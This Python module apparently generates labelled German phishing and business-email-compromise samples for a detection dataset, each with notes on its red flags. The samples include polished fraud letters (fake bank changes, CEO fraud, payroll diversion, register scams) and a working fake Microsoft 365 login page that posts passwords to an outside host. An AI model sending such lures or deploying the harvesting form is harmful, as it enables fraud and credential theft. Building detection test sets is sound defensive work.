"""Attack messages, German (8)."""

from codes import iban_print
from company import S, BANK
from core import (Msg, alt, plain, mixed, related, att_pdf, att_zip, att_html,
                  png_inline, qr_png, prev_mid, html_of)
from systems import OwnPostfix, OutlookConsumer, Mailgun, Exim, SendGrid, Brevo, GMX


def a01():
    text = """Sehr geehrte Frau Schäfer,

wie bereits mit Ihrem Einkauf besprochen, haben wir im Zuge der Umstellung unseres Zahlungsverkehrs unsere Hausbank gewechselt. Wir bitten Sie daher, alle Zahlungen an die Lieferant GmbH ab sofort ausschließlich auf unser neues Geschäftskonto zu leisten:

Kontoinhaber: Lieferant GmbH
Bank: N26 Bank SE
IBAN: %s
BIC: NTSBDEB1XXX

Die bisherige Verbindung bei der Stadtsparkasse Augsburg wird zum 30.11.2026 aufgelöst. Zahlungseingänge auf dem alten Konto können danach nicht mehr zugeordnet werden und gehen an Sie zurück.

Betroffen sind insbesondere die noch offenen Rechnungen
RE-2026-10418 vom 14.10.2026 über 18.640,20 EUR (Kalibrierung Tachymeter, 6 Stk.)
RE-2026-10577 vom 29.10.2026 über 4.912,80 EUR (Miete Laserscanner Oktober)

Wir wären Ihnen dankbar, wenn Sie die Umstellung zeitnah in Ihrem System vornehmen und uns kurz bestätigen, dass beide Posten mit dem nächsten Zahllauf auf das neue Konto überwiesen werden. Das Bestätigungsschreiben unserer Geschäftsführung finden Sie im Anhang.

Bitte antworten Sie direkt auf diese E-Mail – ich bin diese Woche überwiegend beim Kunden und telefonisch schlecht erreichbar.

Mit freundlichen Grüßen

Petra Lang
Auftragsabwicklung / Innendienst

Lieferant GmbH
Vermessungs- und Messtechnik
Haunstetter Straße 112
86161 Augsburg
Tel. +49 821 4508-214
www.lieferant-gmbh.de""" % iban_print(BANK["lieferant_fake"])
    pdf = att_pdf("Lieferant_GmbH_Bankverbindung_neu.pdf", [
        ("h", "Lieferant GmbH"), ("s", "Vermessungs- und Messtechnik | Haunstetter Straße 112 | 86161 Augsburg"), "",
        "Example Group GmbH", "Buchhaltung / Kreditoren", "Leopoldstraße 180", "80804 München", "",
        "Augsburg, 16.11.2026", "",
        ("b", "Mitteilung über die Änderung unserer Bankverbindung"), "",
        "Sehr geehrte Damen und Herren,",
        "hiermit teilen wir Ihnen mit, dass Zahlungen an die Lieferant GmbH mit sofortiger Wirkung",
        "ausschließlich auf folgendes Konto zu leisten sind:", "",
        "Kontoinhaber: Lieferant GmbH", "Kreditinstitut: N26 Bank SE",
        "IBAN: " + iban_print(BANK["lieferant_fake"]), "BIC: NTSBDEB1XXX", "",
        "Die bisherige Bankverbindung verliert zum 30.11.2026 ihre Gültigkeit.",
        "Wir bitten um Aktualisierung Ihrer Stammdaten.", "",
        "Mit freundlichen Grüßen", "", "Georg Hartmann", "Geschäftsführer", "",
        ("s", "Lieferant GmbH | Amtsgericht Augsburg HRB 21743 | USt-IdNr. DE128771543"),
    ], title="Bankverbindung", author="Petra Lang", producer="Microsoft\u00ae Word für Microsoft 365",
        created="20261116154211+01'00'", style="rfc2047", ncs="windows-1252")
    return Msg("lieferant-bankwechsel-lookalike", "2026-11-17 10:42:13",
               OwnPostfix(server="mail.lieferant-grnbh.de", server_ip="94.130.57.211",
                          server_rdns="static.211.57.130.94.clients.your-server.de",
                          client="outlook", client_helo="DESKTOP-7QK2M4R", client_ip="185.213.155.42",
                          zone="CET"),
               ("Petra Lang", "p.lang@lieferant-grnbh.de"), [S("schaefer")],
               "Änderung unserer Bankverbindung – Lieferant GmbH",
               mixed(alt(text, "windows-1252", "quoted-printable", lang="de"), pdf),
               hcs="windows-1252", hmode="Q",
               what="'Petra Lang' of supplier Lieferant GmbH announces a new bank account (N26) and asks AP to pay two open invoices there.",
               why="Supplier bank-detail-change BEC: look-alike domain lieferant-grnbh.de ('rn' for 'm') on a Hetzner VPS, new account at a neobank, "
                   "old account 'closed' within two weeks, pressure on named open invoices, asks to reply by mail only and avoids phone verification. "
                   "Contrast business/01 (genuine change, real domain, call-back requested, old account stays valid).",
               technique="BEC supplier bank change; look-alike domain (VPS)")


def a02():
    text = """Guten Tag Frau Schäfer,

ich brauche heute noch Ihre Unterstützung in einer vertraulichen Angelegenheit. Wir stehen kurz vor der Übernahme eines Ingenieurbüros in Norditalien (intern „Projekt Ponte“). Der Beirat ist eingebunden, öffentlich wird die Transaktion aber erst nach der Unterzeichnung am Montag. Bis dahin darf im Haus niemand davon erfahren – auch Frau Weiß nicht, die ich am Montag selbst informiere.

Die Abwicklung läuft über die Kanzlei von Herrn Dr. Bernhard Lorenz in Zürich. Er wird sich in Kürze bei Ihnen melden und Ihnen die Angaben für die Anzahlung auf das Treuhandkonto übermitteln. Bitte behandeln Sie seine Anweisungen so, als kämen sie direkt von mir.

Ich sitze bis zum Abend in Verhandlungen und kann nicht telefonieren. Schreiben Sie mir bitte ausschließlich an diese Adresse, mein Firmenpostfach wird im Rahmen der Due Diligence gerade gespiegelt.

Können Sie mir kurz bestätigen, dass Sie heute bis 18 Uhr erreichbar sind und Zugriff auf das Online-Banking haben?

Beste Grüße
Matthias Köhler

Von [[Outlook für iOS|https://aka.ms/o0ukef]] gesendet"""
    return Msg("ceo-fraud-projekt-ponte", "2026-10-08 16:51:37", OutlookConsumer(),
               ("Dr. Matthias Köhler", "dr.m.koehler@outlook.de"), [S("schaefer")],
               "Vertraulich – Projekt Ponte",
               alt(text, "utf-8", "quoted-printable", lang="de"),
               hcs="utf-8", hmode="B",
               what="'Dr. Matthias Köhler' (CEO display name) asks accounts payable for discretion about an acquisition and announces a lawyer who will send payment instructions.",
               why="CEO fraud: CEO's display name on a free outlook.de address, secrecy (even the CFO is excluded), not reachable by phone, pre-announces a 'lawyer' and an escrow payment, "
                   "checks online-banking access. Contrast business/02 (genuine urgent CEO request through the internal relay).",
               technique="CEO fraud / BEC; free mailer (Outlook.com); fake lawyer")


def a03():
    link = "https://elster-kundenservice.de/eportal/zertifikat/verlaengern?kid=EXG-4471-8830"
    text = """Sehr geehrte Nutzerin, sehr geehrter Nutzer,

das Organisationszertifikat (Zertifikatsdatei) für das Benutzerkonto

Example Group GmbH – Steuernummer 143/118/40217

läuft am **31.10.2026** ab.

Nach Ablauf können über dieses Benutzerkonto keine Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassenden Meldungen mehr übermittelt werden. Im Postfach gespeicherte Entwürfe werden 30 Tage nach Ablauf gelöscht.

Die Verlängerung dauert etwa fünf Minuten. Halten Sie dazu bitte Ihre bisherige Zertifikatsdatei (.pfx) und das zugehörige Passwort bereit.

[[Zertifikat jetzt verlängern|%s]]

Aus Sicherheitsgründen ist dieser Link 72 Stunden gültig.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Dies ist eine automatisch erzeugte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.
Bayerisches Landesamt für Steuern – Dienststelle München – ELSTER-Hotline 0800 52 35 055""" % link
    top = ('<div style="background:#0e3b6e;color:#fff;padding:14px 24px;font-size:20px;font-weight:bold;">'
           'ELSTER <span style="font-weight:normal;font-size:14px;">Ihr Online-Finanzamt</span></div>\n')
    return Msg("elster-zertifikat-ablauf", "2026-10-20 07:58:03",
               Mailgun(mgdomain="mg.elster-kundenservice.de", tag="zertifikat"),
               ("ELSTER – Ihr Online-Finanzamt", "noreply@elster-kundenservice.de"), [S("weiss")],
               "Ihr ELSTER-Organisationszertifikat läuft am 31.10.2026 ab – Verlängerung erforderlich",
               alt(text, "utf-8", "quoted-printable", hstyle="generic", pstyle="colon", lang="de", top=top),
               hcs="utf-8", hmode="Q",
               what="'ELSTER' notice that the company's organisation certificate expires, with a link to 'renew' it.",
               why="Credential/certificate phishing imitating the German tax portal: sent via Mailgun from the look-alike elster-kundenservice.de, "
                   "link to a non-elster.de host, asks for the .pfx certificate file and its password, deadline pressure. ELSTER does not send renewal links "
                   "(see the tax advisor's note in business/06).",
               technique="credential phishing: national tax office (ELSTER); bulk ESP (Mailgun)")


def a04():
    text = """Guten Tag,

anbei erhalten Sie unsere Rechnung RE-26-0931 über die Malerarbeiten im Treppenhaus Ihrer Niederlassung (Leistungszeitraum Oktober 2026) als E-Rechnung im Format XRechnung.

Da die strukturierte Rechnungsdatei von vielen E-Mail-Programmen nicht direkt angezeigt werden kann, haben wir einen Viewer beigefügt. Öffnen Sie den Anhang im Browser und melden Sie sich mit Ihrem geschäftlichen Microsoft-Konto an, um Rechnung und Leistungsnachweis einzusehen.

Rechnungsbetrag: 3.184,50 EUR brutto
Zahlungsziel: 14 Tage netto

Bei Rückfragen stehen wir Ihnen gerne zur Verfügung.

Mit freundlichen Grüßen
Sandra Kessler
Malerbetrieb Kessler GmbH & Co. KG
Ringstraße 9, 85386 Eching
Tel. 089 319 77 45"""
    page = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8">
<title>E-Rechnung anzeigen - Microsoft 365</title>
<style>
body{font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2;margin:0}
.box{width:440px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:24px;font-weight:600;margin:16px 0}
input{width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;margin:10px 0;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;font-size:15px}
.doc{font-size:13px;color:#444;background:#f7f7f7;padding:10px;margin-bottom:12px}
</style></head>
<body><div class="box">
<div style="font-size:17px;color:#737373">&#9632;&#9632; Microsoft</div>
<h1>Anmelden, um das Dokument anzuzeigen</h1>
<div class="doc">XRechnung_RE-26-0931.xml &middot; 38 KB &middot; geschützt</div>
<form method="post" action="https://xr-portal-login.com/o365/de/auth.php">
<input type="email" name="login" value="rechnungseingang@example.com">
<input type="password" name="passwd" placeholder="Kennwort">
<input type="hidden" name="ref" value="RE-26-0931">
<p style="font-size:13px"><a href="https://xr-portal-login.com/o365/de/reset">Kennwort vergessen?</a></p>
<button type="submit">Anmelden</button>
</form>
<div style="clear:both"></div>
</div></body></html>
"""
    return Msg("erechnung-html-viewer-m365", "2026-11-04 11:23:50",
               Exim(host="cp47.webhost-center.de", host_ip="178.254.12.47", via="roundcube", zone="CET"),
               ("Malerbetrieb Kessler – Buchhaltung", "buchhaltung@malerbetrieb-kessler.de"),
               [("", "rechnungseingang@example.com")],
               "E-Rechnung RE-26-0931 (XRechnung) – Malerarbeiten Oktober 2026",
               mixed(plain(text, "utf-8", "quoted-printable", flowed=False),
                     att_html("XRechnung_RE-26-0931_Viewer.html", page)),
               hcs="UTF-8", hmode="Q",
               what="Unknown painting contractor sends an 'e-invoice' with an HTML 'viewer' attachment.",
               why="HTML-attachment credential phishing: the attachment is a fake Microsoft 365 sign-in page prefilled with the AP mailbox that posts the password to xr-portal-login.com; "
                   "an XRechnung is an XML file and never needs a Microsoft login; no business relationship; sent from a (compromised) small-business webmail on shared hosting. "
                   "Contrast business/07 (genuine e-invoice with PDF+XML).",
               technique="HTML attachment (credential form); e-invoicing lure (XRechnung); compromised small-business mailbox")


def a05():
    url = "https://exg-mfa-erneuerung.pages.dev/#ZnJhbmsuZHVlcmluZ0BleGFtcGxlLmNvbQ=="
    text = """Guten Morgen Herr Düring,

im Rahmen der Umstellung auf die neue Mehrstufige Authentifizierung (Nummernabgleich) muss die Registrierung Ihres Microsoft Authenticator bis spätestens **Freitag, 30.10.2026** erneuert werden. Nicht erneuerte Konten werden aus Sicherheitsgründen vorübergehend gesperrt; Outlook, Teams und der VPN-Zugang sind dann nicht mehr nutzbar.

So gehen Sie vor:
1. Öffnen Sie die Kamera Ihres Smartphones (nicht den Authenticator).
2. Scannen Sie den QR-Code unten.
3. Melden Sie sich mit Ihrer E-Mail-Adresse und Ihrem Windows-Kennwort an und bestätigen Sie die Anfrage.

Der Vorgang dauert weniger als zwei Minuten und ist nur auf dem Mobilgerät möglich.

Vielen Dank für Ihre Mitwirkung
Ihr IT-Servicedesk
Example Group GmbH | Leopoldstraße 180 | 80804 München"""
    qr = png_inline(qr_png(url), "qr_mfa_7731@exg", "mfa.png")
    html_bottom = ('<p style="text-align:center"><img src="cid:qr_mfa_7731@exg" width="210" height="210" alt="QR-Code"></p>\n'
                   '<p style="font-size:11px;color:#888;text-align:center">Ticket INC-2026-10-48812 &middot; Microsoft 365 Sicherheitsrichtlinie</p>\n')
    body = related(alt(text.replace("Der Vorgang", "[QR-Code: bitte HTML-Ansicht verwenden]\n\nDer Vorgang"),
                       "utf-8", "quoted-printable", lang="de",
                       html=html_of(text, "generic", "utf-8", "de", bottom=html_bottom)), qr)
    m = Msg("quishing-mfa-erneuerung", "2026-10-27 08:12:44", SendGrid(),
            ("IT-Servicedesk Example Group", "it-servicedesk@exampIegroup.eu"), [S("duering")],
            "Handlungsbedarf: Erneuerung Ihrer Authenticator-Registrierung bis 30.10.",
            body, hcs="UTF-8", hmode="B",
            what="'IT-Servicedesk' asks the employee to re-register Microsoft Authenticator by scanning a QR code.",
            why="Quishing: homoglyph sender domain exampIegroup.eu (capital I for l) via SendGrid, the QR code (no clickable link) leads to a pages.dev page with the victim's address base64-encoded in the fragment "
                "(AiTM credential/MFA phishing), lockout threat. The genuine IT announcement (business/05) states IT never sends QR codes.",
            technique="quishing (QR code in inline PNG); Microsoft 365 MFA lure; homoglyph domain; bulk ESP (SendGrid)")
    m.qr_url = url
    return m


def a06():
    q_mid = prev_mid("a06-q1", "exchange")
    q_mid0 = prev_mid("a06-q0", "outlook", "lieferant-gmbh.de")
    text = """Guten Morgen Herr Düring,

bitte sehen Sie sich die überarbeiteten Unterlagen im Anhang an und geben Sie mir kurz Rückmeldung.

Passwort für das Dokument: 7731

Mit freundlichen Grüßen
Stefan Maier

-----Ursprüngliche Nachricht-----
Von: Frank Düring <frank.duering@example.com>
Gesendet: Montag, 2. November 2026 14:18
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Betreff: AW: Angebot Wartungsvertrag Laserscanner 2027

Hallo Herr Maier,

danke für das Angebot. Können Sie uns bitte noch eine Variante mit 24 Monaten Laufzeit und inklusive Ersatzgerät im Schadensfall rechnen? Wir haben inzwischen sechs Scanner im Einsatz (2x München, 2x Milano, 1x Wroclaw, 1x Madrid).

Viele Grüße
Frank Düring
Einkauf | Example Group GmbH
Leopoldstraße 180 | 80804 München

-----Ursprüngliche Nachricht-----
Von: Stefan Maier <s.maier@lieferant-gmbh.de>
Gesendet: Donnerstag, 29. Oktober 2026 09:02
An: Frank Düring <frank.duering@example.com>
Betreff: Angebot Wartungsvertrag Laserscanner 2027

Sehr geehrter Herr Düring,

wie besprochen anbei unser Angebot für den Wartungsvertrag 2027 (jährliche Kalibrierung, Firmware-Updates, 48-h-Austauschservice).

Mit freundlichen Grüßen
Stefan Maier
Vertrieb | Lieferant GmbH"""
    z = att_zip("Angebot_WV-2027-0412.zip",
                [("Angebot_WV-2027-0412.pdf.lnk", "inert placeholder - evaluation sample, no executable content\n",
                  (2026, 11, 12, 5, 41, 8))], password="7731", style="rfc2231", seed="a06")
    m = Msg("thread-hijack-lieferant-zip", "2026-11-12 05:47:21",
            OwnPostfix(server="dd38220.kasserver.com", server_ip="85.13.163.219",
                       server_rdns="dd38220.kasserver.com", client="none",
                       client_helo="WIN-3J8GQ1VLA0R", client_ip="45.137.21.88", zone="CET"),
            ("Stefan Maier", "s.maier@lieferant-gmbh.de"), [S("duering")],
            "AW: Angebot Wartungsvertrag Laserscanner 2027",
            mixed(plain(text, "iso-8859-1", "8bit"), z),
            in_reply_to=q_mid, references="%s %s" % (q_mid0, q_mid),
            hcs="iso-8859-1", hmode="Q",
            what="Reply from the supplier's real mailbox in an existing quotation thread, with a password-protected ZIP.",
            why="Thread hijack from a compromised partner mailbox: real address and hosting, but sent at 05:47 by SMTP AUTH from a foreign IP without the sender's usual Outlook, generic text that ignores the question asked, "
                "password (7731) in the body, ZIP protected with ZipCrypto so scanners cannot look inside, containing a .pdf.lnk shortcut (malware loader pattern). Contrast business/03 (genuine mail of the same supplier).",
            technique="thread hijack (compromised partner mailbox); password-protected ZIP (ZipCrypto); LNK loader")
    m.zip_password = "7731"
    return m


def a07():
    text = """Sehr geehrte Damen und Herren,

zur Aktualisierung Ihres Eintrags im Zentralen Gewerbe- und Firmenverzeichnis übersenden wir Ihnen die Eintragungsunterlagen für das Kalenderjahr 2027.

Firma: Example Group GmbH
Registergericht: Amtsgericht München, HRB 218447
Anschrift: Leopoldstraße 180, 80804 München
Aktenzeichen: ZG-2026/884173

Bitte prüfen Sie die Angaben im beigefügten Formular. Die Eintragung wird mit Eingang der Gebühr in Höhe von 1.186,00 EUR auf das im Formular genannte Konto wirksam. Zahlungsfrist: 16.12.2026.

Mit freundlichen Grüßen
Registerverwaltung ZGFV

ZGFV – Zentrales Gewerbe- und Firmenverzeichnis
Serviceabteilung | Postfach 10 07 41 | 20005 Hamburg"""
    pdf = att_pdf("Eintragungsformular_ZG-2026-884173.pdf", [
        ("h", "ZGFV  Zentrales Gewerbe- und Firmenverzeichnis"), ("s", "Registerverwaltung | Postfach 10 07 41 | 20005 Hamburg"), "",
        "Example Group GmbH", "Leopoldstraße 180", "80804 München", "",
        ("b", "Eintragung / Aktualisierung 2027          Aktenzeichen: ZG-2026/884173"), "",
        "Registergericht: Amtsgericht München        Registernummer: HRB 218447",
        "Branche: Ingenieur- und Architekturbüro      Datum: 02.12.2026", "",
        ("b", "Eintragungsgebühr 2027:  1.186,00 EUR"), "Zahlbar bis: 16.12.2026", "",
        "Empfänger: ZGFV Registerverwaltung",
        "IBAN: " + iban_print(BANK["register_fake"]), "BIC: WBKPPLPPXXX",
        "Verwendungszweck: ZG-2026/884173", "",
        ("s", "Hinweis: Dies ist ein Angebot. Die Eintragung in das privatwirtschaftlich betriebene Online-Verzeichnis ZGFV erfolgt nur nach Zahlung."),
        ("s", "Mit der Zahlung erteilen Sie den Auftrag für die Dauer von drei Jahren zu einem jährlichen Preis von 1.186,00 EUR netto."),
        ("s", "Der Vertrag verlängert sich um ein weiteres Jahr, wenn er nicht drei Monate vor Ablauf gekündigt wird."),
        ("s", "Es besteht keine Verbindung zum Handelsregister oder zu Behörden. Gerichtsstand Hamburg."),
    ], title="Eintragungsformular", producer="iText 7.2.5", created="20261201173011+01'00'")
    return Msg("register-eintragungsofferte", "2026-12-02 09:31:08",
               Brevo(bounce_domain="bounces.zgfv-register.de"),
               ("ZGFV Registerverwaltung", "registerverwaltung@zgfv-register.de"), [S("hoffmann")],
               "Eintragung 2027 – Example Group GmbH – Aktenzeichen ZG-2026/884173",
               mixed(alt(text, "utf-8", "quoted-printable", hstyle="generic", lang="de"), pdf),
               hcs="UTF-8", hmode="Q",
               what="'Central business register' sends registration papers for 2027 with a fee of EUR 1,186 payable to a Polish account.",
               why="Fake register/directory invoice: official-sounding private directory, HRB data copied from the public register, invoice-like form with due date; "
                   "only the fine print reveals a three-year paid listing contract with auto-renewal and 'no connection to the commercial register'; foreign bank account; sent via Brevo.",
               technique="fake directory/register invoice; bulk ESP (Brevo)")


def a08():
    text = """Hallo Frau Brückner,

ich habe meine Bank gewechselt und bitte Sie, mein Gehalt ab der November-Abrechnung auf mein neues Konto zu überweisen:

Kontoinhaberin: Stefanie Brandt
IBAN: %s
Bank: Postbank

Könnten Sie mir kurz bestätigen, ob die Änderung für diesen Monat noch rechtzeitig ist? Ich schreibe von meiner privaten Adresse, weil ich diese Woche auf der Baustelle in Regensburg bin und nicht ins VPN komme.

Vielen Dank und viele Grüße
Stefanie Brandt""" % iban_print(BANK["payroll_fake"])
    return Msg("gehaltskonto-aenderung-gmx", "2026-11-19 21:14:36",
               GMX(client_ip="146.70.113.24"),
               ("Stefanie Brandt", "stefanie.brandt86@gmx.de"), [S("brueckner")],
               "Neue Bankverbindung für Gehaltszahlung",
               plain(text, "UTF-8", "quoted-printable"),
               what="An employee's name on a GMX address asks HR to pay her salary to a new account from the November payroll.",
               why="Payroll diversion: unknown private address (the employee's real private address is steffi.brandt@gmx.de, see business/04), bank change requested by e-mail instead of the HR self-service/signed form, "
                   "timed just before the payroll run, excuse for not using company systems; sent through GMX webmail from a commercial VPN IP.",
               technique="payroll diversion (BEC); free mailer (GMX)")


def messages():
    return [a01(), a02(), a03(), a04(), a05(), a06(), a07(), a08()]
